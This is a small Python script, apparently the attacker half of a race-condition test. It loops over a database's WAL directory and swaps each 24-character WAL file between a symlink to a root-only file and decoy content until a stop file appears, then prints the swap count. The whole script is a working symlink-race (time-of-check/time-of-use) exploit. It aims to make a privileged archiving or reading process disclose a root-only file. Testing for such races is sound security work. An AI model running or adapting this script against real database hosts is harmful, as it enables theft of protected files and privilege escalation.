# Run as the database's user: keeps turning each WAL file of a directory into a link to a root-only file and back,
# as fast as it can, until the stop file appears. Prints how many swaps it made.
import os
import sys

wal_directory, secret, stop = sys.argv[1], sys.argv[2], sys.argv[3]
swaps = 0
while not os.path.exists(stop):
    for name in os.listdir(wal_directory):
        if len(name) != 24:
            continue
        path = os.path.join(wal_directory, name)
        link = path + ".link"
        real = path + ".real"
        try:
            os.symlink(secret, link)
            os.replace(link, path)
            with open(real, "wb") as f:
                f.write(("legit " + name + "\n").encode() * 512)
            os.replace(real, path)
            swaps += 1
        except OSError:
            pass
print(swaps)
